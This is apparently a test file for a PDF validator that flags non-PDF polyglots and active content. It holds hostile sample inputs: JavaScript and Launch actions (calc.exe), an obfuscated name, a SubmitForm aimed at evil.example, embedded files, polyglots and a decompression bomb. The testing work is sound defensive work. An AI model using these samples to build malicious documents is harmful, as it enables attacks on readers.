import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { pdfProblem } from './pdf-structure.ts';

const PLAIN = '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n';
const problemOf = (text: string | Buffer) => pdfProblem(Buffer.from(text as string, 'latin1'));
const withObject = (dictionary: string) => PLAIN.replace('endobj', `endobj\n2 0 obj<<${dictionary}>>endobj`);
const packed = (objects: string, filter = '/FlateDecode') =>
  PLAIN.replace(
    'endobj',
    () =>
      `endobj\n3 0 obj<</Type/ObjStm/N 1/First 4/Filter${filter}/Length 9>>stream\n${deflateSync(objects).toString('latin1')}\nendstream endobj`,
  );

test('a plain PDF passes, with spaces behind it and with a table of objects too', () => {
  expect(problemOf(PLAIN)).toBeNull();
  expect(problemOf(`${PLAIN}\n\n \0\0`)).toBeNull();
  const at = PLAIN.indexOf('trailer');
  expect(
    problemOf(PLAIN.replace('trailer', 'xref\n0 1\ntrailer').replace('%%EOF', `startxref\n${at}\n%%EOF`)),
  ).toBeNull();
  expect(problemOf(packed('1 0 <</Type/Page>>'))).toBeNull();
});

test.each([
  ['only a beginning', '%PDF-1.4\n'],
  ['no objects', '%PDF-1.7\n%%EOF\n'],
  ['no trailer', PLAIN.replace('trailer', 'tr')],
  ['no end', PLAIN.replace('%%EOF', '')],
  ['a web page behind it', `${PLAIN}<html><script>alert(1)</script></html>`],
  ['a web page in front', PLAIN.replace('\n', '\n%<html><script>alert(1)</script>\n')],
  ['an archive behind it', `${PLAIN}PK\x03\x04`],
  ['a table that lies nowhere', PLAIN.replace('%%EOF', 'startxref\n999999\n%%EOF')],
  ['a table that is none', PLAIN.replace('%%EOF', 'startxref\n3\n%%EOF')],
])('%s is no PDF', (_what, text) => {
  expect(problemOf(text)).toBe('no_pdf');
});

test.each([
  ['a script', '/S/JavaScript/JS(app.alert(1))'],
  ['a script spelt otherwise', '/S/J#61vaScript'],
  ['a program to start', '/S/Launch/F(calc.exe)'],
  ['a file inside', '/Type/EmbeddedFile'],
  ['a form of the other kind', '/AcroForm<</XFA 5 0 R>>'],
  ['a form that sends', '/S/SubmitForm/F(http://evil.example)'],
  ['a lock', '/Encrypt 7 0 R'],
])('%s is refused, in the open and packed away', (_what, dictionary) => {
  expect(problemOf(withObject(dictionary))).toBe('active');
  expect(problemOf(packed(`2 0 <<${dictionary}>>`))).toBe('active');
});

test('a script in what only pretends to be a stream is found', () => {
  expect(problemOf(withObject('/A(>>stream\n9 0 obj<</S/JavaScript>>endobj endstream)'))).toBe('active');
});

test('packed objects that cannot be read are refused, and a bomb is not unpacked', () => {
  expect(problemOf(packed('1 0 <<>>', '/LZWDecode'))).toBe('active');
  expect(problemOf(packed('1 0 <<>>').replace(/x\x9c/, 'yy'))).toBe('active');
  expect(problemOf(packed('0'.repeat(70 * 1024 * 1024)))).toBe('active');
});

test('names that only begin alike are nobody’s script', () => {
  expect(problemOf(withObject('/JSX 1/JavaScripts 2/LaunchPad 3'))).toBeNull();
});

test('whatever comes in, there is an answer, soon', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }), (pieces) => {
      expect(['no_pdf', 'active', null]).toContain(problemOf(pieces.join('')));
    }),
  );
  const started = performance.now();
  problemOf(`%PDF-1.4 1 0 obj ${'stream endstream '.repeat(400_000)} endobj trailer %%EOF`);
  expect(performance.now() - started).toBeLessThan(10_000);
});

const PIECES = [
  '%PDF-1.4',
  '1 0 obj',
  '<<',
  '>>',
  'stream',
  'endstream',
  'endobj',
  'trailer',
  '%%EOF',
  '/JS',
  '#4',
  '/ObjStm',
  '\n',
  'startxref\n0\n',
];
